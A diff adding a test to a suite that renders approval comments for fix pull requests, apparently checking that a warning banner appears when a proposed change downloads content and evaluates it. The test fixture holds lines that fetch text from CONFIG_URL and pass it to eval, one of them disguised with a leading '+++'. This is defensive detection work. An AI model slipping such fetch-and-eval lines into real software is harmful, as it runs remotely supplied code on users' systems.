@@ -56,4 +56,13 @@ describe('approval request for a fix PR', () => {
     expect(body).toContain('> [!WARNING]\n> This change downloads something and, on another line, runs code');
     expect(body.indexOf('[!WARNING]')).toBeLessThan(body.indexOf('```diff'));
   });
+
+  it('reads the added lines as the applier does, an added line starting with ++ included', () => {
+    // Prepare
+    const diff = ['--- a/src/tax.ts', '+++ b/src/tax.ts', '@@ -1 +1,3 @@', '-export const rate = 0.2;', '+const t = await (await fetch(CONFIG_URL)).text();', '+++n; eval(t);', '+export const rate = 0.19;', ''].join('\n');
+    // Act
+    const body = renderComment(waitingFor(diff) as typeof incident);
+    // Assert
+    expect(body).toContain('[!WARNING]');
+  });
 });
